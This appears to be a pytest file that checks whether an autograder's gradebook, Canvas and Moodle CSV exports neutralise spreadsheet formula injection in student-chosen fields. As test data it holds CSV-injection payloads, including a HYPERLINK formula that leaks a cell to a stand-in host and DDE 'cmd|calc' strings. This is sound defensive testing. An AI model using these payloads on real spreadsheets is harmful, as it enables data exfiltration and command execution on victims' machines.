"""No CSV the course writes holds a spreadsheet formula (OWASP's CSV injection).

A class whose student ids, names, emails, LMS ids, notebook names and messages start with
each formula character (``=``, ``+``, ``-``, ``@``, tab, carriage return) goes into a real
SQLite gradebook and into ``grades.csv``; ``grades.csv``, the plain export and the Canvas
and Moodle imports are written, read back with :mod:`csv`, and every cell is checked: one
that starts with a formula character must be a number, any other such text carries a
leading apostrophe, and the scores still read as numbers.
"""

import csv

import pytest

from autograder.core.gradebook import open_gradebook
from autograder.core.results import Status, StudentResult
from autograder.core.untrusted import FORMULA_STARTS
from autograder.host.exports import export_csv, export_lms
from autograder.host.roster import RosterEntry, sync_roster
from autograder.host.summary import write_csv

# one hostile value per formula character, in every field a student can choose
STUDENTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "ada"]
ROSTER = [RosterEntry(sid, first_name=f"=first{i}", last_name=f"+last{i}",
                      email=f"@mail{i}" if sid != "ada" else "ada@uni.edu", lms_id=f"-lms{i}")
          for i, sid in enumerate(STUDENTS)]
SCORES = {sid: 1.5 * i for i, sid in enumerate(STUDENTS)}


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert(rows):
    """Every cell: a number, or text that does not start with a formula character."""
    neutralised = 0
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert is_number(cell), f"a live formula in {row}: {cell!r}"
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                neutralised += 1
    return neutralised


def read(path):
    with open(path, newline="") as f:
        return list(csv.reader(f))


@pytest.fixture
def gradebook(tmp_path):
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with open_gradebook(url) as gb:
        gb.add_assignment("01-rope", duedate="2026-12-01 23:59:00 UTC")
        gb.add_notebook("=cmd|calc", "01-rope")
        gb.add_grade_cell("test_rope", "=cmd|calc", "01-rope", max_score=10, cell_type="code")
        for sid, score in SCORES.items():
            gb.update_or_create_student(sid)
            gb.add_submission("01-rope", sid, timestamp="2026-12-01 20:00:00 UTC")
            grade = gb.find_grade("test_rope", "=cmd|calc", "01-rope", sid)
            grade.auto_score, grade.needs_manual_grade = score, False
            gb.db.commit()
    sync_roster(url, ROSTER)
    return url


def test_exports_hold_no_formula(gradebook, tmp_path):
    export_csv(gradebook, tmp_path / "plain.csv")
    export_lms(gradebook, tmp_path / "canvas.csv", "canvas")
    export_lms(gradebook, tmp_path / "moodle.csv", "moodle")
    plain, canvas, moodle = (read(tmp_path / f"{n}.csv") for n in ("plain", "canvas", "moodle"))
    # every id, name ("First Last"), email and LMS id that starts like a formula
    hostile = [v for e in ROSTER for v in (e.student_id, f"{e.first_name} {e.last_name}", e.email, e.lms_id)
               if v.startswith(FORMULA_STARTS)]
    assert assert_inert(plain) == len(hostile) == 26
    by_id = {row[0]: row for row in plain[1:]}
    for sid in STUDENTS:  # the text is all there, behind one apostrophe, and scores are numbers
        row = by_id["'" + sid if sid.startswith(FORMULA_STARTS) else sid]
        assert float(row[plain[0].index("score")]) == SCORES[sid]
        assert float(row[plain[0].index("max_score")]) == 10
    assert assert_inert(canvas) >= 6 * 2  # name ("Last, First" starts with +) and ID
    assert {float(r[-1]) for r in canvas[2:]} == set(SCORES.values())
    assert assert_inert(moodle) == 6  # the email column
    assert sorted(float(r[1]) for r in moodle[1:]) == sorted(SCORES.values())


def hostile_result(sid, score):
    return StudentResult(student=sid, score=score, max_score=10.0, status=Status.OK,
                         message=f"=HYPERLINK(\"http://evil.example\",\"{sid}\").ipynb",
                         flags=["-flag"], tampered=["@cell"], seconds=1.5)


def test_grades_csv_holds_no_formula_and_rewrites_add_no_apostrophe(tmp_path):
    path = tmp_path / "grades.csv"
    write_csv(path, "01-rope", [hostile_result(s, v) for s, v in SCORES.items()], tests=[("nb", "=test")])
    first = read(path)
    header = first[0]
    assert assert_inert(first) > 0
    for row in first[1:]:
        assert float(row[header.index("score")]) in SCORES.values()
        assert float(row[header.index("seconds")]) == 1.5
        assert row[header.index("message")].startswith("'=HYPERLINK") and row[header.index("error")] == ""
        assert row[header.index("flags")] == "'-flag" and row[header.index("tampered")] == "'@cell"
    # another assignment's run reads the file back and rewrites it: the first rows stay as they were
    write_csv(path, "02-gqa", [hostile_result(s, 0.0) for s in STUDENTS[:2]])
    write_csv(path, "02-gqa", [hostile_result(s, 0.0) for s in STUDENTS[:2]])
    again = read(path)
    assert [r for r in again if r[1] == "01-rope"] == [r for r in first if r[1] == "01-rope"]
    assert len(again) == len(first) + 2 and assert_inert(again) > 0
    assert not any(cell.startswith("''") for row in again for cell in row)
    # and a re-grade of the same students replaces their rows (the keys read back match)
    write_csv(path, "01-rope", [hostile_result(s, 9.0) for s in STUDENTS])
    regraded = read(path)
    assert len(regraded) == len(again)
    assert {r[header.index("score")] for r in regraded if r[1] == "01-rope"} == {"9"}
